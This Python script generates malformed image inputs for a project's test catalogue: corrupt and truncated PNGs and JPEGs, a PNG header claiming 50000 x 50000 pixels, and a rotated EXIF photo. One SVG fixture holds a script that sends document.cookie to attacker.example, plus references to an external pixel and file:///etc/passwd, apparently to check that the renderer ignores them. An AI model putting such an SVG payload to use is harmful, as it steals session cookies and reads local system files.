#!/usr/bin/env python3
"""Writes the binary and picture inputs of the bad-input catalogue (tests/bad_inputs/).

Python standard library only: PNGs are assembled chunk by chunk with zlib and struct, so every
odd kind of PNG (16-bit, palette with transparency, grey + alpha, interlaced, a header that lies
about its size) is exact. The JPEG inputs (CMYK, truncated, corrupt) are made with ImageMagick's
`convert` when it is installed. Run it from anywhere; the outputs are committed, so the tests need
only Rust.

    python3 tests/bad_inputs/make_images.py
"""

import os
import shutil
import subprocess
import struct
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))


def chunk(kind, data):
    body = kind + data
    return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body) & 0xFFFFFFFF)


def png(width, height, bit_depth, color_type, rows, extra=(), interlace=0, raw_idat=None):
    """rows: list of bytes per scanline (without the filter byte), already in the pass order
    when interlaced (see `adam7`)."""
    ihdr = struct.pack(">IIBBBBB", width, height, bit_depth, color_type, 0, 0, interlace)
    if raw_idat is None:
        raw_idat = zlib.compress(b"".join(b"\x00" + r for r in rows), 9)
    out = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr)
    for kind, data in extra:
        out += chunk(kind, data)
    return out + chunk(b"IDAT", raw_idat) + chunk(b"IEND", b"")


def write(case, name, data):
    folder = os.path.join(HERE, case)
    os.makedirs(folder, exist_ok=True)
    with open(os.path.join(folder, name), "wb") as f:
        f.write(data)


def rgb_rows(w, h, pixel):
    return [b"".join(pixel(x, y) for x in range(w)) for y in range(h)]


def gradient(x, y):
    return bytes(((x // 2) & 0xFF, 64 * (y // 100) & 0xFF, 128))


def adam7(w, h, bytes_per_pixel, pixel):
    """Scanlines of an Adam7-interlaced image, pass after pass."""
    passes = [(0, 0, 8, 8), (4, 0, 8, 8), (0, 4, 4, 8), (2, 0, 4, 4), (0, 2, 2, 4), (1, 0, 2, 2), (0, 1, 1, 2)]
    rows = []
    for x0, y0, dx, dy in passes:
        xs = list(range(x0, w, dx))
        if not xs:
            continue
        for y in range(y0, h, dy):
            rows.append(b"".join(pixel(x, y) for x in xs))
    assert all(len(r) % bytes_per_pixel == 0 for r in rows)
    return rows


def main():
    # 500 x 325: wide enough to print sharply (over 150 dpi) across the 80 mm picture box.
    size, high = 500, 325

    # A good PNG, used by cases that need one (and by the "PNG named .jpg" case).
    good = png(size, high, 8, 2, rgb_rows(size, high, gradient))
    write("image-png-named-jpg", "band.jpg", good)

    # Corrupt: a real PNG header, then a damaged compressed stream.
    write("image-corrupt-png", "band.png", png(64, 64, 8, 2, [], raw_idat=b"\x78\x9c" + b"\xde\xad\xbe\xef" * 16))

    # Truncated: the first half of a good PNG.
    write("image-truncated-png", "band.png", good[: len(good) // 2])

    # A file that is text, named .png.
    write("image-not-a-picture", "band.png", b"This is not a picture, it is a note that was saved as band.png.\n")

    # Zero bytes.
    write("image-zero-bytes", "band.png", b"")

    # 16-bit RGB.
    rows16 = [b"".join(struct.pack(">HHH", x * 130, 16000 * (y // 100), 30000) for x in range(size)) for y in range(high)]
    write("image-16-bit-png", "band.png", png(size, high, 16, 2, rows16))

    # Palette with transparency (tRNS): four colours, one fully transparent.
    plte = bytes([255, 255, 255, 31, 95, 139, 224, 122, 46, 0, 0, 0])
    trns = bytes([0, 255, 255, 128])
    rows_p = [bytes((x // 50 + y // 50) % 4 for x in range(size)) for y in range(high)]
    write("image-palette-transparent-png", "band.png", png(size, high, 8, 3, rows_p, extra=[(b"PLTE", plte), (b"tRNS", trns)]))

    # Grey + alpha.
    rows_la = [b"".join(bytes(((x // 2) & 0xFF, 255 if x < size // 2 else 60)) for x in range(size)) for y in range(high)]
    write("image-gray-alpha-png", "band.png", png(size, high, 8, 4, rows_la))

    # Interlaced (Adam7).
    write("image-interlaced-png", "band.png", png(size, high, 8, 2, adam7(size, high, 3, gradient), interlace=1))

    # Decompression bomb: the header claims 50000 x 50000 pixels; the file is a few hundred bytes.
    bomb_idat = zlib.compress(b"\x00" * 4096, 9)
    write("image-decompression-bomb", "band.png", png(50000, 50000, 8, 2, [], raw_idat=bomb_idat))

    # A logo that prints blurry: 60 x 30 pixels in a 45 mm box is about 34 dpi.
    small = png(60, 30, 8, 2, rgb_rows(60, 30, gradient))
    write("warning-low-resolution-logo", "logo.png", small)
    write("deny-warnings-low-resolution-logo", "logo.png", small)

    # A GIF (not supported): the smallest valid GIF89a.
    gif = (
        b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04\x01\x00\x00\x00\x00"
        b",\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
    )
    write("image-gif-unsupported", "band.gif", gif)

    # JPEGs, made with ImageMagick (`convert`); skipped with a note when it is not installed.
    tmp = os.path.join(HERE, ".photo.jpg")
    if shutil.which("convert"):
        subprocess.run(["convert", "-size", "500x325", "gradient:navy-orange", "-quality", "80", tmp], check=True)
        with open(tmp, "rb") as f:
            full = f.read()
        os.remove(tmp)
        write("image-truncated-jpeg", "photo.jpg", full[: len(full) * 2 // 5])
        # Corrupt: the first Huffman table claims impossible code counts (a decoder rejects it,
        # whereas damaged compressed data is often decoded into a grey smear without complaint).
        dht = full.index(b"\xff\xc4")
        write("image-corrupt-jpeg", "photo.jpg", full[: dht + 5] + b"\xff" * 16 + full[dht + 21 :])
        subprocess.run(["convert", "-size", "500x325", "gradient:navy-orange", "-colorspace", "CMYK", "-quality", "80", tmp], check=True)
        with open(tmp, "rb") as f:
            cmyk = f.read()
        os.remove(tmp)
        write("image-cmyk-jpeg", "photo.jpg", cmyk)
        # A header that lies: a tiny JPEG whose frame header claims 16000 x 3750 pixels.
        subprocess.run(["convert", "-size", "16x16", "xc:gray50", "-quality", "50", "-strip", tmp], check=True)
        with open(tmp, "rb") as f:
            tiny = bytearray(f.read())
        os.remove(tmp)
        sof = tiny.index(b"\xff\xc0")
        tiny[sof + 5 : sof + 9] = struct.pack(">HH", 3750, 16000)
        write("image-jpeg-header-lies", "photo.jpg", bytes(tiny))
        # A phone photo: stored as the sensor saw it (landscape, 400 x 200), with EXIF
        # orientation 6 (turn 90 degrees clockwise to show it), as phones write them.
        subprocess.run(["convert", "-size", "400x200", "gradient:navy-orange", "-quality", "80", "-strip", tmp], check=True)
        with open(tmp, "rb") as f:
            photo = f.read()
        os.remove(tmp)
        tiff = b"MM\x00\x2a\x00\x00\x00\x08" + struct.pack(">HHHIHH", 1, 0x0112, 3, 1, 6, 0) + b"\x00\x00\x00\x00"
        app1 = b"Exif\x00\x00" + tiff
        rotated = photo[:2] + b"\xff\xe1" + struct.pack(">H", len(app1) + 2) + app1 + photo[2:]
        write("image-jpeg-exif-rotated", "photo.jpg", rotated)
        write("ref-logo-jpeg-exif-rotated", "logo.jpg", rotated)
    else:
        print("convert (ImageMagick) not found: JPEG inputs left as they are")

    # SVGs: external references and a script (must be ignored, never fetched), and text.
    write(
        "image-svg-external-and-script",
        "band.svg",
        b"""<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="300" height="200" viewBox="0 0 300 200">
  <script>fetch("http://attacker.example/steal?c=" + document.cookie)</script>
  <image href="http://attacker.example/pixel.png" x="0" y="0" width="10" height="10"/>
  <image xlink:href="file:///etc/passwd" x="10" y="0" width="10" height="10"/>
  <rect x="20" y="20" width="260" height="160" fill="#1F5F8B"/>
</svg>
""",
    )
    write(
        "image-svg-with-text",
        "band.svg",
        b"""<svg xmlns="http://www.w3.org/2000/svg" width="300" height="200" viewBox="0 0 300 200">
  <rect x="20" y="20" width="260" height="160" fill="none" stroke="#1F5F8B" stroke-width="6"/>
  <text x="40" y="110" font-size="30">Pull apart</text>
</svg>
""",
    )
    write("image-svg-broken", "band.svg", b'<svg xmlns="http://www.w3.org/2000/svg" width="300" height="200"><rect x="1"\n')


if __name__ == "__main__":
    main()
